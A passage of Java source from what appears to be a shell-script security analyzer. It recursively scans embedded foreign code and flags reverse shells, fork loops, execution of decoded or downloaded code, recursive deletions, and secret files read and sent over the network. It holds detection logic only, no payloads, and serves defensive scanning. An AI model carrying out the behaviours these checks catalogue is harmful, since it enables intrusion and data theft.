        } else if (Nesting.opaque(t) && file.origin().hostile()) {
            report(ctx, Structural.HOSTILE_CODE, file.start(), file.end(), f.via() + " runs a file named by untrusted data");
        }
    }

    private void foreign(String language, String code, Origin origin, int start, int end, Env env, Ctx ctx) {
        if (origin == Origin.NETWORK && trustedInstaller) {
            report(ctx, Structural.LOCAL_CODE, start, end, language + " runs an installer fetched over HTTPS from a code host");
        } else if (origin.hostile()) {
            report(ctx, Structural.HOSTILE_CODE, start, end, language + " runs " + origin.name().toLowerCase() + " code");
        }
        if (ctx.depth() >= limits.maxCodeDepth()) {
            report(ctx, Structural.LIMIT, start, end, "code nested too deep");
            return;
        }
        ForeignCode.Scan scan = ForeignCode.scan(language, code);
        Ctx nested = new Ctx(ctx.depth() + 1, s(ctx, start), e(ctx, end), Stdin.TERMINAL, ctx.functions(), false, false,
                ctx.callDepth(), ctx.loopDepth(), ctx.speculative());
        if (scan.reverseShell()) {
            report(ctx, Structural.FOREIGN_REVERSE_SHELL, start, end, language + " program connects a socket to a shell");
        }
        if (scan.forkLoop()) {
            report(ctx, Structural.FOREIGN_FORK, start, end, language + " program forks in a loop");
        }
        if (scan.hostileExec()) {
            report(ctx, Structural.FOREIGN_HOSTILE_EXEC, start, end, language + " program executes decoded or downloaded code");
        }
        if (scan.dynamicShell()) {
            report(ctx, Structural.FOREIGN_DYNAMIC, start, end, language + " program runs a shell command built at run time");
        }
        for (String d : scan.downloads()) {
            downloaded.add(d.startsWith("./") ? d.substring(2) : d);
        }
        for (String sh : scan.shellCode()) {
            analyzeCode(sh, origin, start, end, null, env, nested.withStdin(Stdin.TERMINAL), language + " shell-out");
        }
        for (String path : scan.deletedPaths()) {
            List<Arg> argv = List.of(Arg.literal("rm", start, end), Arg.literal("-r", start, end),
                    Arg.literal("-f", start, end), new Arg(path.replace('*', Sentinels.STAR), origin, start, end, null));
            process(new Invocation(argv, List.of(), Stdin.TERMINAL, s(ctx, start), e(ctx, end), ctx.speculative(), null,
                    ctx.depth() + 1), env, nested, false);
        }
        // files the program writes by name are judged as if written by tee; secrets it reads and sends are exfiltration
        for (String[] cm : scan.modeChanges()) {
            List<Arg> argv = List.of(Arg.literal("chmod", start, end), Arg.literal(cm[0], start, end),
                    new Arg(cm[1], origin, start, end, null));
            process(new Invocation(argv, List.of(), Stdin.TERMINAL, s(ctx, start), e(ctx, end), ctx.speculative(), null,
                    ctx.depth() + 1), env, nested, false);
        }
        for (ForeignCode.FileAccess f : scan.files()) {
            Arg path = new Arg(f.path().replace('*', Sentinels.STAR), origin, start, end, null);
            if (f.write()) {
                List<Arg> argv = f.append() ? List.of(Arg.literal("tee", start, end), Arg.literal("-a", start, end), path)
                        : List.of(Arg.literal("tee", start, end), path);
                process(new Invocation(argv, List.of(), Stdin.TERMINAL, s(ctx, start), e(ctx, end), ctx.speculative(), null,
                        ctx.depth() + 1), env, nested, false);
            } else if (scan.sends() && Paths.isSecret(path)) {
                report(ctx, "exfil.upload-secret", start, end, language + " program reads " + f.path()
                        + " and sends data over the network");
            }
        }
        for (String inner : scan.evalCode()) {
            if (ctx.depth() + 1 < limits.maxCodeDepth()) {
                foreign(language, inner, origin, start, end, env, nested); // eval of a literal: the same program, one level in
            }
        }
        for (String blob : scan.decodedBlobs()) {
            if (ctx.depth() + 1 < limits.maxCodeDepth()) {
                foreign(language, blob, Origin.DECODED, start, end, env, nested);
            }
        }
    }

    // ------------------------------------------------------------------ substitutions

    @Override
    public Value commandSubstitution(Script script, Env env, int start, int end) {
        Ctx ctx = current;
        Ctx sub = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), Stdin.TERMINAL, ctx.functions(), false, false,
                ctx.callDepth(), ctx.loopDepth(), ctx.speculative());
        int readsBefore = secretReads;
        int pidsBefore = pidNames.size();
        Producers.Output out = walkScript(script, copyEnv(env), sub);
        current = ctx;
        if (pidNames.size() > pidsBefore) {
            pidSubstitutions.add(new PidSpan(start, end, List.copyOf(pidNames.subList(pidsBefore, pidNames.size()))));
        }
        if (secretReads > readsBefore) {
            secretSubstitutions.add(new int[] {start, end});
        }
        if (out.content() != null) {
            String c = out.content();
            int k = c.length();
            while (k > 0 && c.charAt(k - 1) == '\n') {
                k--;
            }
            return Value.of(c.substring(0, k), out.origin());
        }
        return Value.unknown(out.origin().max(Origin.LOCAL));
    }

    @Override
    public Origin processSubstitution(Script script, boolean input, Env env, int start, int end) {
        Ctx ctx = current;
        Stdin in = input ? Stdin.TERMINAL : new Stdin(Origin.LOCAL, null, List.of(), true);
        Ctx sub = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), in, ctx.functions(), false, false,
                ctx.callDepth(), ctx.loopDepth(), ctx.speculative());
        Producers.Output out = walkScript(script, copyEnv(env), sub);
        current = ctx;
        procSubOutputs.put(start - 2, out);
        return input ? out.origin() : Origin.LOCAL;
    }
}
